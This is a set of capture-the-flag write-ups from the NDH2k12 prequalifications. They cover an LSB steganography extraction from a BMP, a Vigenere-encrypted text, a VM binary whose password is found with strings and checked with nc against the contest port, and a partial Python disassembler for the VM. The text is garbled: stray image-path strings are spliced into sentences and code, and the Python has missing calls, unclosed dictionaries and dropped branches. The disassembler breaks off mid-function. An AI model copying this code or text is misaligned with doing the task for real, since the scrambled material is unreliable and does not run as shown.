And we find them at the file offset 2E1 that we translate into memory address :

0x8000 + 0x2E1 - 0x6 (HDR_SIZE) = 0x82DB.

No surprise here, this is the address we found by bruteforcing the BoF. Well, that’s it.

NDH2k12 Prequals - We are looking for a real hacker - Wallpaper image

The bmp file has no padding bytes, and its size matches the image dimensions (4374054 = 810*1800*3 +0x36 for the header).
On the other hand, applying an LSB filter reveals that something is wrong on the left side of the image (the 630 first columns from the left look filled with random bits).
The three colors are affected in the same way, and the second LSB is normal. So, we certainly have an LSB encoding with one bit per byte.

The fact that the bits form a rectangle suggests the encoding was done following theimage order rather than the file order. The two most logical choices (for occidentals) are left-to-right and up-to-down. I was going for the former; the grace of the random Bug made me do the latter first.

Here is how the data begin:

00 02 eb 9b 78 9c d4 b9 65 54 ...

The index of coincidence reveals a flat distribution. The data could be either encrypted or compressed. But then, the two first bytes are suspiciously low.
0x2eb9b (191387) is also veryclose to the rectangle size: 630*810*3 / 8 = 191362. And as it happens, 78 9C is a typical beginning for strings compressed with zlib (deflate algorithm).

Quote from :

The header byte 78 meaning “deflate compression with a 32 KiB window”.
The informational byte 9c meaning “the default compression algorithm was used” (plus a checksum).”

So all that has to be done is to extract the least significant bits in column-major (up-to-down), skip the first four bytes indicating the size of the file, and decompress the rest with zlib.

The output file is a pdf describing a few products from SCIOS. This file is the flag.

import sys, zlib,Image, struct
bmp ="sp113.bmp")
pix = bmp.load()
lsb = []
for x in range(640):
    for y in range(810):
        lsb.extend( str(i&1) for i in pix[(x,y)] )
lsb = "".join(lsb)
lsb = "".join(chr(int(lsb[i:i+8],2)) for i inrange(0,len(lsb),8))
length = struct.unpack(">I",lsb[:4])[0]
pdf = zlib.decompress(lsb[4:4+length])
outfile = open("sp113.pdf","wb") #"b" is for windows users


NDH2k12 Prequals - We are looking for a real hacker - Unknown text

File sp111

After opening the sp111 text file, we guessed that it was encrypted with vigenere.

We tried an auto-decrypt with, revealing that “OFJZUANDEOQDK” would be the most probable key.We reconstructed the following plain text :

; HI,SUBB SP, #8
   MOV R5, SP
   MOV R1,  R5
   MOVB R2, #10
   ADDB SP, #8
   ; QUIT

NDH2k12 Prequals - What is it about this file? - Binary file ndh


File: 11925.ndh

Once again it is a VM file. We quickly take a look at the hexdump to find the remote portused (4004).

% tail 11925.ndh|hexdump -C
00000000  00 16 b7 0e 00 02 02 04  00 00 02 03 04 03 03 03  |................|
00000010  02 03 01 1a 01 03 00 01  03 01 04 00 01 00 19 04  |................|
00000020  7c fe 04 00 03 00 04 00  02 01 04 01 01 01 04 01  ||...............|
00000030  00 04 30 03 01 03 00 1a  01 03 00 01 03 03 0e 00  |..0.............|
00000040  03 03 18 00 03 02 10 0d  00 1e 0a 00 04 06 00 01  |................|
00000050  0a 03 0a 00 16 ec 03 03  03 00 1a 04 00 01 00 04  |................|
00000060  01 00 05 30 1a 04 00 02  01 04 00 01 00 04 01 00  |...0............|
00000070  02 30 1a 04 00 03 02 04  00 02 01 04 00 01 00 04  |.0..............|
00000080  01 00 03 30 1a 01 03 03  04 00 03 02 04 00 02 01  |...0............|00000090  04 00 01 00 04 01 00 11  30 03 03 1a 01 03 01 01  |........0.......|
000000a0  03 02 01 03 03 01 03 04  01 03 05 04 02 01 00 00  |................|
000000b0  19 04 b1 ff 18 02 00 ff  ff 11 0f 00 0e 00 00 00  |................|
000000c0  03 05 03 04 03 03 03 02  03 01 1a 04 00 03 00 04  |................|
000000d0  02 01 00 00 04 02 02 02  00 19 04 a8 ff 04 00 04  |................|
000000e0  00 0a 04 04 00 00 03 04  02 01 00 00 04 02 02 00  |................|
000000f0  00 19 04 90 ff 07 00 08  04 04 00 05 08 04 00 00  |................|
00000100  03 04 00 01 08 04 00 02  04 19 04 66 ff 06 00 04  |...........f....|
00000110  05 0b 04 04 07 04 00 04  00 00 05 19 04 f5fe 04  |................|
00000120  01 00 01 0a 04 07 00 04  05 06 00 08 04 03 05 03  |................|
00000130  04 03 03 03 02 03 01 1a  04 02 00 10 83 19 04 d3  |................|
00000140  fe 07 01 08 32 04 00 05  08 04 02 00 00 00 04 00  |....2...........|
00000150  01 05 04 01 02 36 19 04  19 ff 04 02 00 11 11 04  |.....6..........|
00000160  00 01 05 04 02 02 32 00  19 04 5b fd 06 01 08 32  |......2...[....2|
00000170  1a 04 02 00 11 11 04 02  01 5e 83 04 02 02 00 01  |.........^......|
00000180  19 04 d7 fd 11 0d 00 0a  07 04 02 00 51 83 19 04  |............Q...|00000190  0a ff 16 09 04 02 00 42  83 19 04 77 fe 1a 0e 00  |.......B...w....|
000001a0  07 07 19 04 92 ff 19 04  c7 ff 1c 50 61 73 73 77  |...........Passw|
000001b0  6f 72 64 20 28 72 65 71  75 69 72 65 64 29 3a 20  |ord (required): |
000001c0  00 73 63 69 74 65 65 6b  2e 6e 75 69 74 64 75 68  |.sciteek.nuitduh|
000001d0  61 63 6b 2e 63 6f 6d 3a  34 30 30 34 00 42 61 64  ||
000001e0  20 70 61 73 73 77 6f 72  64 2e 0a 00 62 6b 46 53  | password...bkFS|
000001f0  6d 4a 6c 58 2e 74 78 74  00 5a 6f 6d 66 67 53 63|mJlX.txt.ZomfgSc|
00000200  69 50 61 64 57 69 6c 6c  52 30 78 78 44 34 46 75  |iPadWillR0xxD4Fu|
00000210  63 6b 31 6e 77 30 52 4c  64 21 21 21 0a 00        |ck1nw0RLd!!!..|

There are some weird strings at the end, we look closer...

% strings 11925.ndh
Password (required):
Bad password.

It looks like a flag! There is no way that can be true!

% nc 4004
Password (required): ZomfgSciPadWillR0xxD4Fuck1nw0RLd!!!
You are now authenticated

Yeah well, it was actually that simple, we got the flag, and a nice facepalm because we also reversed it, which was useless here...Flag: ZomfgSciPadWillR0xxD4Fuck1nw0RLd!!!

Btw, meanwhile, we developped a small disassembler in python. We cracked the rar file and accessed the VM source when we just finished. FU.
We used the instruction set unlocked with the .wav challenge ;)

#!/usr/bin/env python
# -*- coding: utf-8 -*-
import sys
from struct import pack, unpack
START  = 0x6
BASE_ADDR = 0x8000
OPCODES = { 0x06 : 'ADD',   0x0d : 'AND',   0x19 : 'CALL',      0x18 : 'CMP',   0x0b : 'DEC',
            0x09 : 'DIV',   0x0a : 'INC',   0x1b : 'JMPL',      0x16 : 'JMPS',  0x11 : 'JNZ',
            0x10 : 'JZ',    0x1e : 'JA',    0x1f : 'JB',        0x04 : 'MOV',   0x08 : 'MUL',
            0x02 : 'NOP',   0x0f : 'NOT',   0x0c : 'OR',        0x03 : 'POP',   0x01 : 'PUSH',
            0x1a : 'RET',   0x07 : 'SUB',   0x30 : 'SYSCALL',   0x17 : 'TEST',  0x1d : 'XCHG',
            0x0e : 'XOR'
NOFLAG  = ( 'DEC', 'INC', 'JMPL', 'JMPS', 'JNZ', 'JZ', 'JA', 'JB', 'NOP', 'NOT', 'POP', 'RET', 'SYSCALL', 'TEST', 'XCHG' )FLAGS   = { 0x00 : 'REG_REG',               0x01 : 'REG_DIRECT8',
            0x02 : 'REG_DIRECT16',          0x03 : 'REG',
            0x04 : 'DIRECT16',              0x05 : 'DIRECT8',
            0x06 : 'REGINDIRECT_REG',       0x07 : 'REGINDIRECT_DIRECT8',
            0x0a : 'REG_REGINDIRECT'
REG_REG                                 => op entre 2 registres
REG_DIRECT8                             => op entre 1 reg et 1 octet
REG_DIRECT16                    => op entre 1 reg et 2 octets
REG                                             => op sur un reg
DIRECT16                                => 2 octets
DIRECT8                                 => 1 octet
REGINDIRECT_REG                 => op entre [reg] et reg
REGINDIRECT_DIRECT8             => opentre [reg] et 1 octet
REGINDIRECT_DIRECT16    => op entre [reg] et 2 octets
REGINDIRECT_REGINDIRECT => op entre [reg] et [reg]
REG_REGINDIRECT                 => op entre reg et [reg]
# opcode = 1 byte
# flag = 1 byte
# reg = 1 byte
# DIR8 / DIR16 = 1/2 bytes
def get_reg( num ) :
    if num >= 0 and num <= 9 :
        if num == 9 :
            return 'BP'
        elif num == 8 :return 'SP'
            return 'R' + str(num)
    else :
        return '#FAIL' + str(num) # <- c'est moche
def reg_reg(reg1, reg2):
    print("%s, %s" % (get_reg(reg1), get_reg(reg2)))
def reg_direct8(reg, direct):
    print("%s, BYTE %xh" % (get_reg(reg), direct))
def reg_direct16(reg, direct):
    print("%s, SHORT %xh" % (get_reg(reg), direct))
def direct16(direct):
    print("SHORT %xh" % direct)
def direct8(direct):print("BYTE %xh" % direct)
def reg(reg):
def regindirect_reg(reg1, reg2):
    print("[%s], %s" % (get_reg(reg1), get_reg(reg2)))
def regindirect_direct8(reg, direct):
    print("[%s], BYTE %xh" % (get_reg(reg), direct))
def regindirect_direct16(reg, direct):
    print("[%s], SHORT %xh" % (get_reg(reg), direct))
def regindirect_regindirect(reg1, reg2):
    print("[%s], [%s]" % (get_reg(reg1), get_reg(reg2)))
def reg_regindirect(reg1, reg2):
    print("%s, [%s]" % (get_reg(reg1), get_reg(reg2)))
def extract(code):
    flag = ord(code[0])
    size = 3 # flag = 1 byte, lval = 1byte, rval = 1+ byte
    lval = ord(code[1])
    rval =ord(code[2])
    if "DIRECT16" in FLAGS[flag]: # rval = 2 bytes
        size += 1
        rval = int(unpack("<H", code[2:4])[0])
    globals()[FLAGS[flag].lower()](lval, rval)
    return size
def disass_DEC(code):
    print get_reg( ord(code[0]) )
    return 1
def disass_INC(code):print get_reg( ord(code[0]) )
    return 1
def disass_JMPL(code):
    print hex( unpack('<h', code[0:2])[0] )
    return 2
def disass_JMPS(code):
    print hex(ord(code[0]))
    return 1
def disass_JNZ(code):
    print hex( unpack('<h', code[0:2])[0] )
    return 2
def disass_JZ(code):
    print hex( unpack('<h', code[0:2])[0] )
    return 2
def disass_JA(code):
    print hex( unpack('<h', code[0:2])[0] )
    return 2
def disass_JB(code):
    print hex( unpack('<h', code[0:2])[0] )
    return 2
def disass_NOP(code):
    return 0
def disass_NOT(code):
    print get_reg( ord(code[0]) )
    return 1
def disass_POP(code):
    print get_reg( ord(code[0]) )
    return 1
def disass_RET(code):
    return 0
def disass_SYSCALL(code):
    print "R0 (R1..R4)"
    return 0
def disass_TEST(code):
    print get_reg(ord(code[0])) + ', ' + get_reg(ord(code[1]))
    return 2
def disass_XCHG(code):
    print get_reg(ord(code[0])) + ', ' + get_reg(ord(code[1]))
    return 2
def disass_CALL(code):
    flag = ord(code[0])
    if FLAGS[flag] is 'REG' :
        print get_reg(ord(code[1]))
        return 2
    elif FLAGS[flag] is 'DIRECT16' :
        #print hex( unpack('<H', code[1:3])[0] )
        offset = unpack('<h',code[1:3])[0]
        print hex( cursor + 3 + 6 + offset ) #3 pour l'instruction, 6 pour le header
        return 3
        print "<Warning : invalid flag %x>" % flag
def disass_PUSH(code):
    flag = ord(code[0])
    if FLAGS[flag] is 'REG' :print get_reg(ord(code[1]))
        return 2
    elif FLAGS[flag] is 'DIRECT8' :
        print hex(ord(code[1]))
        return 2
    elif FLAGS[flag] is 'DIRECT16' :
        print hex( unpack('<H', code[1:3])[0] )
        return 3
        print "<Warning : invalid flag %x>" % flag
def die( txt ) :
        print txt
def get_opcodes_str(code):
